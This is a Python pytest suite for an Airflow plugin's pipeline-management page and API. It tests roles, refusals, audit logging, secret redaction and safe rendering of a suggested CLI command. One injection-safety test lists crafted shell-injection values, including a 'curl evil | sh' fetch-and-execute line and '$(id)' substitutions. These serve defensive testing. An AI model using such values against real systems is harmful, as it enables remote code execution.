"""The page of the UI: its endpoints in Airflow's own application, a real database and store."""

import asyncio
import json
import logging
import os
import re
import shutil
import socket
import subprocess
import sys
from importlib.metadata import entry_points
from pathlib import Path

import pytest

from airflow_provider_deltaforge.control import pipelines
from airflow_provider_deltaforge.control.starting import start
from airflow_provider_deltaforge.control.status import status
from airflow_provider_deltaforge.hooks.deltaforge import DeltaForgeHook
from airflow_provider_deltaforge.hooks.jobs import owner_token
from airflow_provider_deltaforge.plugins_airflow import page
from airflow_provider_deltaforge.plugins_airflow.advice import advice
from airflow_provider_deltaforge.plugins_airflow.answers import Supervisor
from airflow_provider_deltaforge.storage.control import Control
from airflow_provider_deltaforge.storage.location import StoreLocation
from airflow_provider_deltaforge.storage.requests import Request, Results, result_of
from airflow_provider_deltaforge.storage.snapshots import Run, Snapshots
from tests.control.bench import DOCUMENT, job_of
from tests.waiting import wait_until

STATIC = Path(page.__file__).with_name("static")
OWNER = "airflow:shop/stream/manual__2026-11-21T20:00:00+00:00/-1#2@0123abcd"
SECRET = "pl4nted-s3cret"
JSON = {"Content-Type": "application/json"}
READ = ("/pipelines", "/pipelines/orders", "/pipelines/orders/log", "/pipelines/orders/document")


@pytest.fixture(scope="module")
def client():
    """Airflow's whole API application, plug-ins mounted by Airflow itself."""
    settings = {
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": "ann:admin,una:user,vera:viewer",
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "False",
        "AIRFLOW__API_AUTH__JWT_SECRET": "0123456789abcdef" * 8,
    }
    with pytest.MonkeyPatch.context() as patch:
        for name, value in settings.items():
            patch.setenv(name, value)
        from airflow.api_fastapi.app import create_app, purge_cached_app
        from airflow.utils.db import initdb
        from fastapi.testclient import TestClient

        purge_cached_app()
        levels = logging.root.manager.disable
        initdb()
        logging.disable(levels)
        with TestClient(create_app("core"), base_url="http://airflow") as opened:
            yield opened
        purge_cached_app()


@pytest.fixture
def ask(client):
    """Ask as a user of a role; ``role=None`` is nobody."""
    from airflow.api_fastapi.app import get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser

    def asked(path, role="admin", method="GET", **options):
        headers = options.pop("headers", {})
        if role is not None:
            user = SimpleAuthManagerUser(username=role, role=role)
            headers["Authorization"] = f"Bearer {get_auth_manager().generate_jwt(user)}"
        return client.request(method, f"/deltaforge{path}", headers=headers, **options)

    return asked


@pytest.fixture
def orders(store, backend, dsn, tmp_path, monkeypatch):
    """A pipeline whose driver runs, with a snapshot begun, a request waiting and one served."""
    value = {"conn_type": "deltaforge", "extra": {"path": str(tmp_path / "state.db")}}
    monkeypatch.setenv("AIRFLOW_CONN_DELTAFORGE_DEFAULT", json.dumps(value))
    monkeypatch.setattr(DeltaForgeHook, "backend", lambda _: backend)
    pipelines.apply(store, DOCUMENT)
    start(store, job_of(dsn), backend, OWNER)
    wait_until(lambda: status(store, "orders", backend).status == "running")
    snapshots = Snapshots(store, "orders")
    tables = {"shop.orders": {"chunks": 4, "rows_estimate": 100}}
    run = Run(
        id="r1",
        generation=1,
        started_at_ms=1_760_000_000_000,
        start_position={"tx": 1},
        chunk_count=4,
        tables=tables,
    )
    store.transact(snapshots.begin(run, []))
    store.transact([snapshots.chunk_done("r1", "c1", "shop.orders", 25, {"tx": 1})])
    asked = Request(id="again", tables=["shop.orders"], requested_at_ms=1, by=OWNER)
    served = Request(id="first", where="id > 5", requested_at_ms=1, by=OWNER)
    counted = {"shop.orders": {"chunks": 1, "rows": 7}}
    store.transact(
        Results(store, "orders").put(result_of(served, "failed", tables=counted, reason="away"))
    )
    Control(store, "orders").update(lambda old: old.model_copy(update={"requests": [asked]}))
    return Control(store, "orders")


def test_the_entry_point_is_the_only_source_of_the_plugin_and_it_loads():
    from airflow import plugins_manager

    points = [
        point for point in entry_points(group="airflow.plugins") if point.name == "deltaforge"
    ]
    loaded, errors = plugins_manager._get_plugins()

    assert [point.load() for point in points] == [page.DeltaForgePlugin]
    assert [one.name for one in loaded].count("deltaforge") == 1
    assert errors == {}


def test_importing_the_plugin_brings_no_web_framework():
    """Every component imports it; the test process has imported everything, so ask another."""
    asked = (
        "import sys, airflow.plugins_manager\n"
        "before = set(sys.modules)\n"
        "import airflow_provider_deltaforge.plugins_airflow.page\n"
        "print(*sorted(set(sys.modules) - before))"
    )
    done = subprocess.run(
        [sys.executable, "-c", asked], capture_output=True, text=True, check=True, env=os.environ
    )

    brought = done.stdout.split()
    ours = [name for name in brought if name.startswith("airflow_provider_deltaforge")]
    assert "airflow_provider_deltaforge.plugins_airflow.page" in ours
    assert set(brought) == set(ours)


@pytest.mark.parametrize(
    "path",
    ["/pipelines", "/pipelines/orders", "/pipelines/orders/log", "/pipelines/orders/document"],
)
def test_nobody_is_answered_without_signing_in(ask, orders, path):
    assert ask(path, role=None).status_code == 401
    assert ask(path, role="viewer").status_code == 200


def test_the_description_of_the_endpoints_is_not_published(ask):
    assert {ask(path).status_code for path in ("/docs", "/redoc", "/openapi.json")} == {404}


def test_a_viewer_looks_and_changes_nothing(ask, orders):
    refused = ask("/pipelines/orders/stop", "viewer", "POST", headers=JSON, content="{}")
    told = ask("/pipelines/orders", "viewer").json()["pipeline"]

    assert refused.status_code == 403
    assert orders.read().desired == "running"
    assert told["may_change"] is False
    assert ask("/pipelines/orders", "user").json()["pipeline"]["may_change"] is True


def test_a_pipeline_without_a_dag_is_changed_by_who_may_edit_its_connection(ask, orders):
    orders.update(lambda old: old.model_copy(update={"owner": "deltaforge run"}))
    post = {"method": "POST", "headers": dict(JSON), "content": "{}"}

    assert ask("/pipelines/orders/pause", "user", **post).status_code == 403
    assert ask("/pipelines/orders/pause", "admin", **post).status_code == 200
    assert orders.read().desired == "paused"


def test_pause_resume_and_stop_reach_the_driver(ask, orders, store, backend):
    def send(verb):
        answer = ask(f"/pipelines/orders/{verb}", "user", "POST", headers=dict(JSON), content="{}")
        assert answer.status_code == 200, answer.text
        return answer.json()["pipeline"]["desired"]

    assert send("pause") == "paused"
    wait_until(lambda: status(store, "orders", backend).status == "paused")
    assert send("resume") == "running"
    wait_until(lambda: status(store, "orders", backend).status == "running")
    assert send("stop") == "stopped"
    wait_until(lambda: status(store, "orders", backend).status == "stopped")
    late = ask("/pipelines/orders/pause", "user", "POST", headers=dict(JSON), content="{}")
    assert (late.status_code, late.json()["code"]) == (409, "not_now")


def test_who_stopped_a_pipeline_stands_in_the_audit_log(ask, orders):
    from airflow.models import Log
    from airflow.utils.session import create_session

    ask("/pipelines/orders/pause", "user", "POST", headers=dict(JSON), content="{}")

    with create_session() as session:
        entry = session.query(Log).filter_by(event="deltaforge_pipeline").order_by(Log.id).all()[-1]
        assert entry.owner == "user"
        assert json.loads(entry.extra) == {"name": "orders", "verb": "pause", "method": "POST"}


@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "text/plain", None])
def test_a_form_of_another_site_changes_nothing(ask, orders, kind):
    headers = {} if kind is None else {"Content-Type": kind}
    answer = ask("/pipelines/orders/stop", "admin", "POST", headers=headers, content="{}")

    assert answer.status_code == 415
    assert orders.read().desired == "running"


@pytest.mark.parametrize("body", ["", "{", "\xff"])
def test_a_body_that_is_no_json_is_refused_in_words(ask, orders, body):
    answer = ask("/pipelines/orders/stop", method="POST", headers=dict(JSON), content=body)

    assert (answer.status_code, answer.json()["code"]) == (422, "no_json")
    assert orders.read().desired == "running"


def test_an_unknown_verb_and_an_unknown_pipeline_are_not_found(ask, orders):
    verb = ask("/pipelines/orders/destroy", method="POST", headers=dict(JSON), content="{}")
    name = ask("/pipelines/nothing")

    assert (verb.status_code, verb.json()["code"]) == (404, "unknown_verb")
    assert (name.status_code, name.json()["code"]) == (404, "unknown_pipeline")


def test_the_list_is_of_one_dag_if_one_is_named(ask, orders):
    def names(path):
        return [one["name"] for one in ask(path).json()["pipelines"]]

    assert names("/pipelines") == ["orders"]
    assert names("/pipelines?dag_id=shop") == ["orders"]
    assert names("/pipelines?dag_id=other") == []


def test_a_pipeline_of_a_dag_one_may_not_see_is_not_there(ask, orders, monkeypatch):
    from airflow.api_fastapi.auth.managers.simple.simple_auth_manager import SimpleAuthManager

    def hidden(self, *, details=None, **_):
        return details is None or details.id != "shop"

    monkeypatch.setattr(SimpleAuthManager, "is_authorized_dag", hidden)

    assert ask("/pipelines").json()["pipelines"] == []
    for path in ("", "/log", "/document"):
        assert ask(f"/pipelines/orders{path}").status_code == 404
    stop = ask("/pipelines/orders/stop", method="POST", headers=dict(JSON), content="{}")
    assert stop.status_code == 404
    assert orders.read().desired == "running"


def test_the_details_tell_what_the_store_holds(ask, orders):
    told = ask("/pipelines/orders").json()["pipeline"]

    assert told["status"] == "running"
    assert told["lag_ms"] == 12
    assert told["tables"]["shop.orders"]["c"] > 0
    assert told["sinks"]["files"]["events"] > 0
    assert told["snapshot"]["tables"]["shop.orders"]["rows"] == 25
    assert told["supervisor"]["dag_id"] == "shop"
    assert told["supervisor"]["try_number"] == 2
    assert told["driver"]["job"] == "running"
    assert [request["id"] for request in told["requests"]] == ["again"]
    assert [(one["id"], one["rows"]) for one in told["results"]] == [("first", 7)]


def test_the_log_is_the_drivers_without_secrets(ask, orders):
    place = Path(orders.read().handle["directory"]) / "driver.log"
    with place.open("a") as log:
        log.write(f"connecting to mysql://app:{SECRET}@db/shop password={SECRET}\n")

    told = ask("/pipelines/orders/log?lines=2").json()

    assert len(told["lines"]) == 2
    assert told["lines"][-1].startswith("connecting to mysql://app:***@db/shop")
    assert told["missing"] is None
    assert ask("/pipelines/orders/log?lines=0").status_code == 422


def test_of_a_very_long_log_only_the_end_is_read(ask, orders):
    place = Path(orders.read().handle["directory"]) / "driver.log"
    with place.open("a") as log:
        log.writelines(f"{number:07d} {'x' * 992}\n" for number in range(3000))

    lines = ask("/pipelines/orders/log?lines=2000").json()["lines"]

    assert lines[-1].startswith("0002999 ")
    assert 1000 < len(lines) < 1100
    assert all(len(line) == 1000 for line in lines)


def test_a_log_on_another_host_is_named_with_its_place(ask, orders):
    elsewhere = {**orders.read().handle, "host": f"not-{socket.gethostname()}"}
    orders.update(lambda old: old.model_copy(update={"handle": elsewhere}))

    told = ask("/pipelines/orders/log").json()

    assert told["lines"] == []
    assert elsewhere["host"] in told["missing"]
    assert elsewhere["directory"] in told["missing"]


def test_no_answer_holds_a_secret(ask, orders, store, monkeypatch):
    """Planted in the environment of a variable, and written out in a document and a reason."""
    monkeypatch.setenv("OUTPUT", f"/{SECRET}")
    text = DOCUMENT.replace("metadata:", f"# password: of {SECRET}\nmetadata:")
    pipelines.apply(store, text)
    paths = (
        "/pipelines",
        "/pipelines/orders",
        "/pipelines/orders/log",
        "/pipelines/orders/document",
    )
    answers = [ask(path).text for path in paths]

    assert "${OUTPUT}" in answers[-1]
    assert not [answer for answer in answers if SECRET in answer]


@pytest.mark.parametrize(
    ("value", "answered"),
    [
        pytest.param(None, (404, "no_connection"), id="no connection"),
        pytest.param({"conn_type": "mysql", "host": "db"}, (422, "wrong_connection"), id="type"),
        pytest.param({"conn_type": "deltaforge"}, (502, "store_refused"), id="names no store"),
        pytest.param(
            {
                "conn_type": "deltaforge",
                "host": "127.0.0.1",
                "port": 1,
                "login": "df",
                "password": SECRET,
            },
            (503, "store_away"),
            id="store is away",
        ),
    ],
)
def test_what_is_wrong_with_the_connection_is_said_in_words(ask, monkeypatch, value, answered):
    monkeypatch.delenv("AIRFLOW_CONN_DELTAFORGE_DEFAULT", raising=False)
    if value is not None:
        monkeypatch.setenv("AIRFLOW_CONN_SHOP", json.dumps(value))

    answer = ask("/pipelines?conn_id=shop")

    assert (answer.status_code, answer.json()["code"]) == answered
    assert len(answer.json()["detail"]) > 20
    assert SECRET not in answer.text


@pytest.fixture
def kinds(orders, monkeypatch):
    """Connections to probe: one that names the store, one of another type, none."""
    monkeypatch.setenv("AIRFLOW_CONN_SHOP", json.dumps({"conn_type": "mysql", "host": "db"}))
    return "deltaforge_default", "shop", "nothing"


def test_who_may_see_no_dag_learns_nothing_of_connections(ask, kinds, monkeypatch):
    from airflow.api_fastapi.auth.managers.simple.simple_auth_manager import SimpleAuthManager

    asked = []
    found = DeltaForgeHook.get_connection
    monkeypatch.setattr(DeltaForgeHook, "get_connection", lambda *a: asked.append(a) or found(*a))
    monkeypatch.setattr(SimpleAuthManager, "is_authorized_dag", lambda *_, **__: False)
    monkeypatch.setattr(SimpleAuthManager, "get_authorized_dag_ids", lambda *_, **__: set())

    answers = [ask(f"{path}?conn_id={kind}") for path in READ for kind in kinds]

    told = {re.sub("deltaforge_default|shop|nothing", "ID", answer.text) for answer in answers}
    assert {answer.status_code for answer in answers} == {404}
    assert len(told) == 1
    assert asked == []


def test_who_may_see_one_dag_alone_is_answered(ask, orders, monkeypatch):
    from airflow.api_fastapi.auth.managers.simple.simple_auth_manager import SimpleAuthManager

    def only_shop(self, *, details=None, **_):
        return details is not None and details.id == "shop"

    monkeypatch.setattr(SimpleAuthManager, "is_authorized_dag", only_shop)
    monkeypatch.setattr(SimpleAuthManager, "get_authorized_dag_ids", lambda *_, **__: {"shop"})

    assert [one["name"] for one in ask("/pipelines").json()["pipelines"]] == ["orders"]


def test_a_connection_of_another_type_is_there_for_who_may_read_connections(ask, kinds):
    def told(role):
        answers = [ask(f"/pipelines?conn_id={kind}", role).json() for kind in kinds]
        return [answer.get("code") for answer in answers]

    assert told("viewer") == [None, "no_connection", "no_connection"]
    assert told("admin") == [None, "wrong_connection", "no_connection"]


def test_the_owner_token_of_the_operators_is_understood():
    from types import SimpleNamespace

    ti = SimpleNamespace(
        dag_id="team.shop", task_id="g.stream", run_id="a/b+c", map_index=3, try_number=4
    )

    assert Supervisor.of(owner_token({"ti": ti})) == Supervisor(
        "team.shop", "g.stream", "a/b+c", 3, 4
    )
    assert Supervisor.of("cli:host:77") is None
    assert Supervisor.of(None) is None


def test_every_status_that_needs_somebody_has_advice():
    from airflow_provider_deltaforge import errors

    classes = {
        one.error_class
        for one in vars(errors).values()
        if isinstance(one, type) and issubclass(one, errors.DeltaForgeError)
    }

    texts = {advice("failed", one, watched=True) for one in classes}
    assert len(texts) >= 7
    for word in ("lost", "blocked", "paused", "stopped", "pending"):
        assert advice(word, None, watched=False)
    assert advice("running", None, watched=True) is None


def test_airflow_serves_every_file_of_the_page_and_a_change_shows_at_once(ask):
    for path in STATIC.iterdir():
        answer = ask(f"/static/{path.name}", role=None)
        assert answer.status_code == 200
        assert answer.text == path.read_text()
        assert answer.headers["Cache-Control"] == "no-cache"
    kind = ask("/static/page.js", role=None).headers["Content-Type"]
    assert kind.startswith(("text/javascript", "application/javascript"))


def test_the_ui_is_told_of_the_page_and_of_files_that_exist(client, ask):
    from airflow.api_fastapi.app import get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser

    token = get_auth_manager().generate_jwt(SimpleAuthManagerUser(username="a", role="admin"))
    answer = client.get("/api/v2/plugins", headers={"Authorization": f"Bearer {token}"}).json()
    [ours] = [one for one in answer["plugins"] if one["name"] == "deltaforge"]

    assert {app["destination"]: app["url_route"] for app in ours["react_apps"]} == {
        "nav": "deltaforge",
        "dag": "deltaforge-dag",
    }
    for app in ours["react_apps"]:
        assert client.get(f"/{app['bundle_url']}").status_code == 200
        assert client.get(f"/{app['icon']}").status_code == 200


def test_the_tab_can_be_hidden(monkeypatch):
    monkeypatch.setenv("AIRFLOW__DELTAFORGE__DAG_TAB", "False")

    assert [app["destination"] for app in page._react_apps()] == ["nav"]


def test_the_application_is_built_once_and_only_when_it_is_asked():
    built = []

    async def application(scope, receive, send):
        built.append(scope)

    lazy = page.LazyApplication(lambda: built.append("built") or application)
    assert built == []
    asyncio.run(lazy(1, None, None))
    asyncio.run(lazy(2, None, None))

    assert built == ["built", 1, 2]


def test_every_field_the_page_reads_is_in_an_answer(ask, orders):
    """Its own names are camelCase, so every snake_case word outside a string is ours."""
    answers = [ask(path).json() for path in ("/connections", *READ, "/pipelines/nothing")]
    known = {*_keys(answers), "conn_id", "dag_id"}
    code = "\n".join(path.read_text() for path in STATIC.glob("*.js"))
    code = re.sub(r'//.*|"[^"\n]*"', "", code)
    owners = "pipeline|one|sink|driver|snapshot|request|result|told|supervisor"
    read = {
        *re.findall(r"\b[a-z]+(?:_[a-z]+)+\b", code),
        *re.findall(rf"\b(?:{owners})\??\.(\w+)", code),
        *re.findall(r"\bdata\.(\w+)", code),
    }
    assert {"heartbeat_age_s", "rows_estimate", "submitted_at_ms", "name", "missing"} <= read
    # Codes of refusals are keys of the page's own texts; `at` and `scroll…` are the browser's.
    texts = set(re.findall(r"\b(\w+): \"", (STATIC / "first_steps.js").read_text()))

    assert (
        read - known - texts - {"under_way", "scrollHeight", "scrollTop", "clientHeight", "at"}
        == set()
    )


def _keys(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from _keys(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _keys(inner)


def test_every_code_the_page_explains_can_be_answered():
    source = (STATIC.parent / "application.py").read_text()
    refused = set(re.findall(r'RefusedError\(\s*\d+, "(\w+)"', source))
    first_steps = (STATIC / "first_steps.js").read_text()
    explained = set(re.findall(r"\b([a-z]+_[a-z]+): ", first_steps)) - {"conn_id"}

    assert explained - refused == {"no_answer", "signed_out"}, "those two come from the page itself"


RENDER = """
globalThis.React = { createElement: (type, props, ...children) => ({ type, props, children }) };
for (const name of ["ChakraUI", "ReactRouterDOM"])
  globalThis[name] = new Proxy({}, { get: (_, part) => part });
const { Trouble } = await import(process.argv[1]);
const flat = (node) => node?.type instanceof Function
  ? flat(node.type({ ...node.props, children: node.children }))
  : { ...node, children: (node?.children?.flat() ?? []).map((c) => (c?.type ? flat(c) : c)) };
const error = { code: "no_connection", detail: "there is none" };
for (const connId of JSON.parse(process.argv[2]))
  console.log(JSON.stringify(flat({ type: Trouble, props: { connId, error } })));
"""


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node")
def test_a_link_cannot_put_words_into_the_command_the_page_offers():
    crafted = ["x; curl evil | sh", "$(id)", "`id`", "a\nid", "a\n", "--help", ""]
    words = [RENDER, str(STATIC / "first_steps.js"), json.dumps(["shop.db-1", *crafted])]
    done = subprocess.run(
        ["node", "--input-type=module", "-e", *words], capture_output=True, text=True, check=False
    )

    assert done.returncode == 0, done.stderr
    offered = ["airflow connections add" in page for page in done.stdout.splitlines()]
    assert offered == [True, *(False for _ in crafted)]


def test_the_connections_to_choose_from_are_ours_alone(ask, orders, monkeypatch):
    from airflow.models import Connection
    from airflow.utils.session import create_session

    monkeypatch.setenv("AIRFLOW_CONN_ARCHIVE", f"deltaforge://app:{SECRET}@db/archive")
    monkeypatch.setenv("AIRFLOW_CONN_SHOP_DB", f"mysql://app:{SECRET}@db/shop")
    monkeypatch.setenv("AIRFLOW_CONN_BROKEN", "{")
    with create_session() as session:
        session.add(Connection(conn_id="stored", conn_type="deltaforge", host="db"))
        session.add(Connection(conn_id="other", conn_type="http", host="db"))
    try:
        told = ask("/connections", "viewer").json()
    finally:
        with create_session() as session:
            session.query(Connection).delete()

    assert told == {"connections": ["deltaforge_default", "archive", "stored"]}


def test_an_empty_store_answers_with_an_empty_list(ask, monkeypatch, tmp_path):
    extra = {"path": str(tmp_path / "new.db")}
    monkeypatch.setenv(
        "AIRFLOW_CONN_EMPTY", json.dumps({"conn_type": "deltaforge", "extra": extra})
    )
    StoreLocation.from_dsn(f"sqlite:///{extra['path']}").open().close()

    assert ask("/pipelines?conn_id=empty").json()["pipelines"] == []
